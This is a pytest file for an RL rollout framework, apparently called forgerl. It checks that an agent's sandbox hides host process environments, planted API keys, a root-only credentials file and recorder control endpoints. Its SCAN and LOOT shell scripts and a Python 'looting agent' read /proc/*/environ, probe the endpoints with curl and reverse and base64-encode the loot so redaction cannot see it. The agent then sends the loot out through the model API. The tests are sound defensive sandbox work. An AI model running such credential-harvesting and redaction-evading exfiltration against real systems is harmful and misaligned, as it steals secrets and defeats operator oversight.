"""An agent in a rollout's jail cannot read forgerl's processes: their environments (the judge's, the user model's,
the runner's keys) and command lines are out of its sight, and a task's services get an allowlisted environment.

A fake key is planted in the runner's environment before its fork servers start (so the jail's own first process,
forked from one, carries it in /proc/PID/environ) and in a sibling process of the runner. The agent, a real process
in a real rollout, dumps every /proc/*/environ and /proc/*/cmdline it can read into its workspace; the grader, outside
the jail, looks there for the key and forgerl's processes. With a shared /proc (no namespaces: what forge-run
refuses without --allow-weak-jail) the same agent finds them, so the test can fail. The harness runs as a uid of its
own (`HARNESS_UID`): a root-only file with a key in it, in a folder anyone may search, stays out of its reach.
"""

from __future__ import annotations

import base64
import binascii
import json
import os
import re
import subprocess
import sys
import uuid
from dataclasses import dataclass

import pytest

from forgerl.harnesses import Key, RunContext
from forgerl.harnesses.spec import OPENAI_KEY
from forgerl.recorder.credentials import KeyHolder, Tokens
from forgerl.recorder.proxy import BackgroundRecorder, RecorderConfig
from forgerl.runners import forkserver
from forgerl.runners.cli import build_parser, main as forge_run
from forgerl.runners.harness_user import HARNESS_UID
from forgerl.runners.grading import Judge
from forgerl.runners.local import LocalRunner
from forgerl.runners.rollout import Rollout
from forgerl.runners.loader import load_tasks
from forgerl.runners.sandbox import Sandbox, can_unshare
from forgerl.runners.services import Service
from forgerl.runners.simulated_user import UserModel
from forgerl.schema.writer import DatasetWriter

from runner_fixtures import CALL_MODEL, PythonHarness, toml_task
from scripted_upstream import ScriptedUpstream

pytestmark = pytest.mark.skipif(not can_unshare(), reason="no namespaces on this machine (see runners/README.md)")

KEY = "sk-judge-" + uuid.uuid4().hex  # planted: no process of the agent's may ever see it
SIBLING = "forgerl-sibling-" + uuid.uuid4().hex[:8]

# What the agent runs: a shell script that reads every process's environment and command line it can.
SCAN = r"""
for d in /proc/[0-9]*; do
  [ "$d" = "/proc/$$" ] && continue
  echo "== $d"; tr '\0' '\n' < "$d/environ"; tr '\0' ' ' < "$d/cmdline"; echo
done > seen.txt 2>&1
ls -d /proc/[0-9]* | wc -l > pids.txt
"""
AGENT = f"import subprocess\nsubprocess.run(['sh', '-c', {SCAN!r}], check=True)\nprint('scanned')\n"

# Run by the runner's grader, outside the jail: what the agent saw. The patterns are assembled here, not written
# out, so no process of the agent's carries them in its own command line.
GRADER = f"""
seen = (ws / "seen.txt").read_text()
return {{"scanned": float(bool((ws / "pids.txt").read_text().strip())),
        "key": float({KEY[:8]!r} + {KEY[8:]!r} in seen),
        "sibling": float({SIBLING[:8]!r} + {SIBLING[8:]!r} in seen),
        "forkserver": float("runners." + "forkserver" in seen),
        "pytest": float("py" + "test" in seen)}}
"""


@pytest.fixture(scope="module")
def planted():
    """The key in this (runner) process's environment, in fork servers started with it, and in a sibling."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("FORGE_JUDGE_API_KEY", KEY)
        mp.setattr(forkserver, "_SERVERS", {})  # fresh servers, started with the key in their environment
        sibling = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", SIBLING],
                                   env={"FORGE_USER_MODEL_API_KEY": KEY})
        try:
            yield
        finally:
            sibling.kill()
            sibling.wait()
            for proc, _ in forkserver._SERVERS.values():
                proc.stdin.close()
                proc.wait()


@pytest.fixture(scope="module")
def stack(tmp_path_factory, planted):
    root = tmp_path_factory.mktemp("secrets")
    with ScriptedUpstream() as up, BackgroundRecorder(RecorderConfig(out=root / "data", upstream_anthropic=up.url,
                                                                     upstream_openai=up.url)) as rec:
        yield root, rec


def scan(stack, isolate: bool) -> dict[str, float]:
    root, rec = stack
    name = f"t{uuid.uuid4().hex[:6]}"
    [task] = load_tasks(toml_task(root / "tasks" / name, name, GRADER))
    runner = LocalRunner(PythonHarness(code=CALL_MODEL + AGENT), rec.config.url, root / "data", retries=0,
                         isolate_network=isolate)
    with DatasetWriter(root / "data", source="runner") as writer:
        [outcome] = runner.run([Rollout(task, 0)], writer)
    assert outcome.error is None and outcome.extra["final_answer"] == "scanned", (outcome.error, outcome.extra)
    return json.loads(outcome.row()["scores"])


def test_the_agent_sees_no_forgerl_process_and_no_key(stack):
    assert scan(stack, isolate=True) == {"scanned": 1.0, "key": 0.0, "sibling": 0.0, "forkserver": 0.0,
                                         "pytest": 0.0}


def test_with_a_shared_proc_the_same_agent_finds_them(stack):
    """The control: the scan works, so the test above could fail."""
    found = scan(stack, isolate=False)
    assert found["key"] == found["sibling"] == found["forkserver"] == found["pytest"] == 1.0, found


def test_the_harness_has_its_own_proc_and_no_capabilities(tmp_path, planted):
    """It sees only its own processes, and cannot unmount its /proc to reach the machine's."""
    script = "grep CapEff /proc/self/status; ls -d /proc/[0-9]*; umount /proc && echo gone-$((1+1)); cat /proc/1/cmdline"
    with Sandbox(tmp_path, "http://127.0.0.1:9") as sandbox:
        sandbox.confine(["sh", "-c", script], {"PATH": "/usr/bin:/bin"}, tmp_path, cpu_s=30, memory_mb=0)
        result = sandbox.run(30)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].split() == ["CapEff:", "0000000000000000"]
    assert "gone-2" not in result.stdout and "umount" in result.stderr
    assert [line for line in lines if line.startswith("/proc/")] == ["/proc/1"]  # the shell (ls: gone already)
    assert lines[-1].startswith("sh\x00-c\x00grep CapEff")  # PID 1 is the harness itself


def test_the_harness_runs_as_its_own_uid_in_its_own_folders(planted):
    """As `HARNESS_UID`: it writes its workspace, HOME (a config root wrote there for it included) and TMPDIR, and
    runs a Python it reaches through folders it may not search, but cannot enter another rollout's temp dir (mode
    0700), in the system's temp dir as the local runner makes them."""
    import shutil
    import tempfile
    from pathlib import Path
    mine, other = (Path(tempfile.mkdtemp(prefix="forgerl-rollout-")) for _ in range(2))
    for rollout in (mine, other):
        (rollout / "workspace").mkdir()
        (rollout / "home").mkdir()
    (mine / "home" / "config").write_text("written by root")
    code = ("import os, sys\n"
            "open('out.txt', 'w').write(open(os.environ['HOME'] + '/config').read())\n"
            "open(os.environ['HOME'] + '/config', 'a').write(' and the harness')\n"
            "open(os.environ['TMPDIR'] + '/scratch', 'w').write('its own temp dir')\n"
            "try:\n"
            f"    os.listdir({str(other / 'workspace')!r})\n"
            "except PermissionError:\n"
            "    print('shut-out')\n"
            "print(os.getuid(), os.getgid(), os.getgroups())\n")
    try:
        with Sandbox(mine, "http://127.0.0.1:9") as sandbox:
            sandbox.confine([sys.executable, "-c", code], {"PATH": "/usr/bin:/bin", "HOME": str(mine / "home")},
                            mine / "workspace", cpu_s=30, memory_mb=0)
            result = sandbox.run(30)
        owner = (mine / "workspace" / "out.txt").stat().st_uid
        files = {name: (mine / name).read_text() for name in ("workspace/out.txt", "home/config", "tmp/scratch")}
        other_mode = other.stat()
    finally:
        for rollout in (mine, other):
            shutil.rmtree(rollout)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split("\n")[:2] == ["shut-out", f"{HARNESS_UID} {HARNESS_UID} []"], result.stdout
    assert files == {"workspace/out.txt": "written by root", "home/config": "written by root and the harness",
                     "tmp/scratch": "its own temp dir"}
    assert owner == HARNESS_UID != os.getuid()
    assert other_mode.st_mode & 0o777 == 0o700 and other_mode.st_uid == os.getuid()  # untouched


def test_a_service_gets_the_allowlisted_environment_only(tmp_path, planted):
    """A task's service never inherits the runner's keys: only `SERVICE_ENV` and what the task names."""
    code = ("import http.server, json, os\n"
            "class H(http.server.BaseHTTPRequestHandler):\n"
            "    def do_GET(self):\n"
            "        body = json.dumps(dict(os.environ)).encode()\n"
            "        self.send_response(200); self.send_header('content-type', 'application/json'); self.end_headers()\n"
            "        self.wfile.write(body)\n"
            "    def do_POST(self): self.do_GET()\n"
            "    def log_message(self, *a): pass\n"
            "http.server.HTTPServer(('127.0.0.1', 8931), H).serve_forever()\n")
    service = Service("env", (sys.executable, "-c", code), 8931, env={"TASK_SETTING": "on"}, state_paths=("/env",))
    with Sandbox(tmp_path, "http://127.0.0.1:9") as sandbox:
        sandbox.confine(["true"], {"PATH": "/usr/bin:/bin"}, tmp_path, cpu_s=30, memory_mb=0, harness_timeout_s=20,
                        services=(service,))
        assert sandbox.run(30).returncode == 0
        env = sandbox.service_state()["services"]["env"]["/env"]
    assert KEY not in json.dumps(env)
    assert set(env) <= {"PATH", "LANG", "LC_ALL", "TZ", "TMPDIR", "PYTHONDONTWRITEBYTECODE", "TASK_SETTING", "LC_CTYPE"}
    assert env["TASK_SETTING"] == "on"


def test_forge_run_refuses_a_shared_proc_unless_told(tmp_path, capsys):
    tasks = tmp_path / "tasks"
    toml_task(tasks, "t", "return {}")
    argv = [str(tasks), "--harness", "claude-code", "--out", str(tmp_path / "data"),
            "--upstream", "http://127.0.0.1:9", "--no-network-isolation"]
    assert forge_run(argv) == 2
    err = capsys.readouterr().err
    assert "forge-run: " in err and "--allow-weak-jail" in err and len(err.strip().splitlines()) == 1
    assert build_parser().parse_args([*argv, "--allow-shared-proc"]).allow_weak_jail  # the flag's old name


def test_forge_run_refuses_where_it_cannot_switch_uids(tmp_path):
    """forge-run in a process without CAP_SETUID (dropped from its bounding set by setpriv, so the exec leaves it
    out), namespaces still possible: one line naming what is missing, status 2, nothing written."""
    tasks = tmp_path / "tasks"
    toml_task(tasks, "t", "return {}")
    r = subprocess.run(["setpriv", "--bounding-set", "-setuid", sys.executable, "-m", "forgerl.runners.cli",
                        str(tasks), "--harness", "claude-code", "--out", str(tmp_path / "data"),
                        "--upstream", "http://127.0.0.1:9"], capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and r.stdout == "", (r.returncode, r.stdout, r.stderr)
    assert r.stderr.startswith("forge-run: ") and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "no uid switch here" in r.stderr and "CAP_SETUID" in r.stderr and "--allow-weak-jail" in r.stderr
    assert not (tmp_path / "data").exists()


# --- The adversarial task on every rollout path: the recorder holds the keys, the agent looks everywhere ---------

VENDOR = "sk-vendor-" + uuid.uuid4().hex  # the model-API key only the recorder may hold
USER_KEY = "sk-user-" + uuid.uuid4().hex  # the simulated user model's
RECORDER_SECRET = "forge-secret-" + uuid.uuid4().hex  # the recorder's control secret
FILE_KEY = "sk-file-" + uuid.uuid4().hex  # in a root-only file (0600) in a folder anyone may search
ROOT_ONLY = f"/tmp/forgerl-root-only-{uuid.uuid4().hex[:8]}/credentials"
SECRETS = (VENDOR, KEY, USER_KEY, RECORDER_SECRET, FILE_KEY)
TOKEN = re.compile(rb"forge-cap-[A-Za-z0-9_-]+\.\d+\.\d+\.[A-Za-z0-9_-]+")

# Everything an agent could find a key in: its environment, every process's environment and command line, files under
# HOME and the workspace, a root-only file, the recorder's control endpoints (with its own token, and without). Each
# line reversed, then base64, so that no redaction can see it: into the workspace, HOME and its output (a tool result,
# a final answer). Its uid goes to the workspace as it is.
LOOT = r"""
id -u > uid.txt
key="${ANTHROPIC_API_KEY:-$OPENAI_API_KEY}"; base="${ANTHROPIC_BASE_URL:-$FORGE_BASE_URL}"
origin=$(printf %s "$base" | sed -E 's#^(https?://[^/]+).*#\1#')
{
  env
  for d in /proc/[0-9]*; do tr "\0" "\n" < "$d/environ"; tr "\0" " " < "$d/cmdline"; echo; done 2>/dev/null
  for p in ready sessions/other/token sessions/other/close sessions/other/flush; do
    for auth in "" "authorization: Bearer $key"; do
      curl -s -m 10 -X POST -H "$auth" "$origin/_forge/$p"; curl -s -m 10 -H "$auth" "$origin/_forge/$p"; echo
    done
  done
  find "$HOME" "$PWD" -type f -size -64k 2>/dev/null | while read -r f; do head -c 4000 "$f"; echo; done
  cat ROOT_ONLY
} 2>&1 | head -c 400000 | rev | base64 -w0 > /tmp/loot.$$
cp /tmp/loot.$$ loot.b64; cp /tmp/loot.$$ "$HOME/loot.b64"; cat /tmp/loot.$$; rm -f /tmp/loot.$$
""".replace("ROOT_ONLY", ROOT_ONLY)

# The Python stand-in agent (local runner, agent loop): runs LOOT, sends it to the model with its token, prints it.
LOOTING_AGENT = f"""
import json, os, subprocess, urllib.request
loot = subprocess.run(['sh', '-c', {LOOT!r}], capture_output=True, text=True).stdout
url = os.environ['FORGE_BASE_URL'] + '/s/' + os.environ['FORGE_SESSION_ID'] + '/v1/chat/completions'
body = json.dumps({{'model': 'm', 'max_tokens': 4, 'messages': [{{'role': 'user', 'content': loot}}]}}).encode()
headers = {{'content-type': 'application/json', 'authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}}
try:
    urllib.request.urlopen(urllib.request.Request(url, data=body, headers=headers), timeout=60).read()
except Exception as e:
    print(type(e).__name__)
print(loot)
"""

# The task's grader, outside the jail: did anything real reach the workspace, in any encoding? The secrets are
# assembled here, not written out, so no process of the agent's carries them in its command line.
def loot_grader(secrets: tuple[str, ...] = SECRETS) -> str:
    return LOOT_GRADER_OF.replace("SECRET_PARTS", repr([(s[:6], s[6:]) for s in secrets]))


LOOT_GRADER_OF = """
import base64, binascii, re
blob = b" ".join(p.read_bytes() for p in ws.rglob("*") if p.is_file())  # one base64 run per file
forms = [blob]
for run in re.findall(rb"[A-Za-z0-9+/]{16,}={0,2}", blob):
    try:
        forms.append(base64.b64decode(run + b"=" * (-len(run) % 4)))
    except (binascii.Error, ValueError):
        pass
secrets = [a.encode() + b.encode() for a, b in SECRET_PARTS]
found = [s for s in secrets for f in forms if s in f or s[::-1] in f]
uid = ws / "uid.txt"
return {"leaked": float(len(found)), "own_token": float(any(b"-pac-egrof" in f for f in forms)),
        "uid": float(uid.read_text()) if uid.exists() else -1.0}
"""
LOOT_GRADER = loot_grader()


def decoded_runs(data: bytes) -> list[bytes]:
    """Every base64 run in `data`, decoded at each of the 4 alignments, as far as it is whole: a run can be cut short
    (a harness keeps a preview of long tool output) or glued to a JSON escape before it (`\\nQmFz...`), and neither
    may hide what it carries."""
    forms = []
    for run in re.findall(rb"[A-Za-z0-9+/]{16,}={0,2}", data):
        run = run.rstrip(b"=")
        for skip in range(4):
            rest = run[skip:]
            for whole in (rest + b"=" * (-len(rest) % 4), rest[: len(rest) // 4 * 4]):  # padded, else cut to whole
                try:
                    forms.append(base64.b64decode(whole))
                    break
                except (binascii.Error, ValueError):
                    continue
    return forms


def exposed(data: bytes, secrets: tuple[str, ...] = SECRETS) -> list[str]:
    """The secrets in `data`, plain, reversed, or inside base64 (of either)."""
    forms = [data, *decoded_runs(data)]
    return [s for s in secrets for f in forms if s.encode() in f or s[::-1].encode() in f]


def stolen_tokens(data: bytes) -> set[str]:
    """The tokens the agent found (its own), decoded from what it sent out."""
    return {t.decode() for decoded in decoded_runs(data) for line in decoded.splitlines()
            for t in TOKEN.findall(line[::-1])}


def nothing_real_reached(dataset, sent: bytes, scores: dict, secrets: tuple[str, ...] = SECRETS) -> str:
    """The adversarial rollout's verdict: the scan ran and saw its own token; no secret reached the workspace (the
    grader's `leaked`), the dataset and outcomes (every value, decompressed) or what the network received (`sent`:
    bodies and paths; the model API's headers carry the real key, as they must). Returns the token it stole."""
    from test_recorder_durability import every_value_on_disk
    assert {k: v for k, v in scores.items() if k != "uid"} == {"leaked": 0.0, "own_token": 1.0}, scores
    values = list(every_value_on_disk(dataset))
    assert values and not [where for where, data in values if exposed(data, secrets)]
    assert sent and not exposed(sent, secrets)
    [token] = stolen_tokens(sent)
    return token


def refused_after_the_rollout(token: str, recorder_url: str, session: str) -> None:
    """A stolen token gets the API's 401 once its rollout is over, and for another session."""
    import httpx
    for s in (session, "another-session"):
        r = httpx.post(f"{recorder_url}/s/{s}/v1/chat/completions", json={"model": "m", "messages": []},
                       headers={"authorization": f"Bearer {token}", "x-api-key": token}, timeout=10)
        assert r.status_code == 401, (s, r.text)


def sent_out(upstream) -> bytes:
    return b"".join(ex.body + ex.path.encode() for ex in upstream.log)


@dataclass
class LootingHarness(PythonHarness):
    """The Python stand-in agent with a key variable of its own (`OPENAI_API_KEY`), as a real harness has."""

    key: Key = OPENAI_KEY
    code: str = LOOTING_AGENT

    def command(self, exe: str, ctx: RunContext) -> tuple[list[str], dict[str, str]]:
        return [exe, "-c", self.code], {**self.base_env(ctx), "FORGE_BASE_URL": ctx.base_url}


@pytest.fixture(scope="module")
def holding(planted):
    """The vendor key, the user model's and the recorder's secret planted beside the judge's; a scripted model API."""
    with pytest.MonkeyPatch.context() as mp:
        for name, value in (("OPENAI_API_KEY", VENDOR), ("ANTHROPIC_API_KEY", VENDOR),
                            ("FORGE_USER_MODEL_API_KEY", USER_KEY), ("FORGE_RECORDER_SECRET", RECORDER_SECRET)):
            mp.setenv(name, value)
        folder = os.path.dirname(ROOT_ONLY)
        os.makedirs(folder, mode=0o755)
        os.chmod(folder, 0o755)  # searchable by anyone: only the file's own mode keeps the key
        fd = os.open(ROOT_ONLY, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        os.write(fd, FILE_KEY.encode())
        os.close(fd)
        try:
            with ScriptedUpstream(loot_script) as up:
                yield up
        finally:
            os.unlink(ROOT_ONLY)
            os.rmdir(folder)


def loot_script(request):
    """A model that has the harness run LOOT in its shell (Claude Code's Bash, pi's bash, Codex's exec_command),
    then answers."""
    from runner_fixtures import shell_call
    from scripted_upstream import ToolCall, Turn, saw_tool_result
    if saw_tool_result(request):
        return Turn(text="done")
    offered = {(t.get("function") or t).get("name") for t in request.body.get("tools") or []}
    call = ToolCall("bash", {"command": LOOT}) if "bash" in offered else shell_call(request, LOOT)
    return Turn(text="Looking around.", tool_calls=[call])


def held_recorder(out, upstream_url: str) -> BackgroundRecorder:
    return BackgroundRecorder(RecorderConfig.one_upstream(out, upstream_url, keys=KeyHolder(
        Tokens(RECORDER_SECRET), {"anthropic": VENDOR, "openai": VENDOR})))


def loot_locally(upstream, tmp_path, isolate: bool = True):
    """The looting agent under the local runner holding the keys, a judge and a user model set (their keys in the
    runner's environment); the recorder stays up for the caller: (outcome, recorder URL)."""
    [task] = load_tasks(toml_task(tmp_path / "tasks", "loot", LOOT_GRADER))
    upstream.log.clear()  # what this rollout sends out, alone
    with held_recorder(tmp_path / "data", upstream.url) as rec:
        runner = LocalRunner(LootingHarness(), rec.config.url, tmp_path / "data", retries=0, isolate_network=isolate,
                             judge=Judge(f"{upstream.url}/v1", "judge"), user=UserModel(f"{upstream.url}/v1", "user"),
                             recorder_secret=RECORDER_SECRET)
        with DatasetWriter(tmp_path / "data", source="runner") as writer:
            [outcome] = runner.run([Rollout(task, 0)], writer)
        assert outcome.error is None, outcome.error
        yield outcome, rec.config.url


def test_the_looting_agent_finds_nothing_locally_with_a_judge_and_a_user_model(holding, tmp_path):
    for outcome, url in loot_locally(holding, tmp_path):
        assert outcome.scores["uid"] == HARNESS_UID != os.getuid()
        token = nothing_real_reached(tmp_path / "data", sent_out(holding), outcome.scores)
        refused_after_the_rollout(token, url, outcome.session)


def test_with_a_shared_proc_the_looting_agent_finds_the_keys(holding, tmp_path):
    """The control: the same agent and checks, the jail sharing forgerl's /proc and uid, do find them (the root-only
    file's key included)."""
    for outcome, _ in loot_locally(holding, tmp_path, isolate=False):
        assert outcome.scores["leaked"] > 0 and outcome.scores["uid"] == os.getuid()
        assert {KEY, USER_KEY, FILE_KEY} <= set(exposed(sent_out(holding))), "the checks must see what the agent sent"


@pytest.mark.slow
@pytest.mark.parametrize("harness", ["claude-code", "pi"])
def test_the_looting_agent_finds_nothing_through_forge_run(holding, tmp_path, harness):
    """A real harness CLI under forge-run, a judge and a user model set: its shell runs as `HARNESS_UID`, and the
    scan finds no key (the root-only file's included) in what reaches the workspace, the dataset or the model API."""
    from forgerl.schema.store import read_table
    toml_task(tmp_path / "tasks", "loot", LOOT_GRADER)
    holding.log.clear()
    assert forge_run([str(tmp_path / "tasks"), "--harness", harness, "--model", "qwen3", "--upstream", holding.url,
                      "--out", str(tmp_path / "data"), "--retries", "0", "--judge", f"{holding.url}/v1",
                      "--judge-model", "judge", "--user-model", f"{holding.url}/v1", "--user-model-name", "user"]) == 0
    [row] = read_table(tmp_path / "data", "outcomes").to_pylist()
    scores = json.loads(row["scores"])
    assert row["error"] is None and scores["uid"] == HARNESS_UID != os.getuid(), (row["error"], scores)
    nothing_real_reached(tmp_path / "data", sent_out(holding), scores)


@pytest.mark.slow
def test_the_looting_agent_finds_nothing_in_a_kubernetes_pod(holding, tmp_path):
    """Claude Code in a pod on the emulator, the judge set, the template mapping every key from a Secret (the model
    keys into the rollout's container, the judge's and user model's into its model-keys sidecar): the harness's
    variable holds only its token, and the sidecar's keys are in another container, out of its /proc."""
    from runner_fixtures import FakeKubelet, KubeAPI
    from forgerl.harnesses import get_harness
    from forgerl.runners.kubernetes import KubernetesRunner, api_client, load_template
    tasks = tmp_path / "tasks"
    # This machine's root-only file is not in a real pod's container (its image's own filesystem); the emulator's
    # pods share this machine's disk, as root, so that one secret is left out of the pod's checks.
    in_pod = tuple(s for s in SECRETS if s != FILE_KEY)
    [task] = load_tasks(toml_task(tasks, "loot", loot_grader(in_pod)))
    holding.log.clear()
    template = load_template()
    secret = (lambda name, key: {"name": name, "valueFrom": {"secretKeyRef": {"name": "forgerl-keys", "key": key}}})
    template["spec"]["containers"][0]["env"] += [secret("ANTHROPIC_API_KEY", "vendor"),
                                                 secret("OPENAI_API_KEY", "vendor")]
    template["spec"]["initContainers"][0]["env"] = [secret("FORGE_JUDGE_API_KEY", "judge"),
                                                    secret("FORGE_USER_MODEL_API_KEY", "user")]
    api = KubeAPI().start()
    kubelet = FakeKubelet(api.url, "forgerl", tmp_path / "node",
                          secrets={"forgerl-keys": {"vendor": VENDOR, "judge": KEY, "user": USER_KEY}}).start(api)
    try:
        with held_recorder(tmp_path / "data", holding.url) as rec:
            runner = KubernetesRunner(get_harness("claude-code"), rec.config.url, api_client(api.url),
                                      template=template, image="forgerl/rollout:test", pod_tasks=str(tasks),
                                      pod_dataset=str(tmp_path / "data"), retries=0, recorder_secret=RECORDER_SECRET,
                                      judge=Judge(f"{holding.url}/v1", "judge"))
            with DatasetWriter(tmp_path / "data", source="runner") as writer:
                [outcome] = runner.run([Rollout(task, 0)], writer)
            assert outcome.error is None, (outcome.error, outcome.extra.get("pod_log_tail"))
            [pod] = api.pods()
            env = {e["name"]: e.get("value") for e in pod["manifest"]["spec"]["containers"][0]["env"]}
            assert env["ANTHROPIC_API_KEY"].startswith("forge-cap-") and "OPENAI_API_KEY" not in env
            assert [c["name"] for c in pod["manifest"]["spec"]["initContainers"]] == ["model-keys"]
            token = nothing_real_reached(tmp_path / "data", sent_out(holding), outcome.scores, in_pod)
            refused_after_the_rollout(token, rec.config.url, outcome.session)
    finally:
        kubelet.stop()
        api.stop()
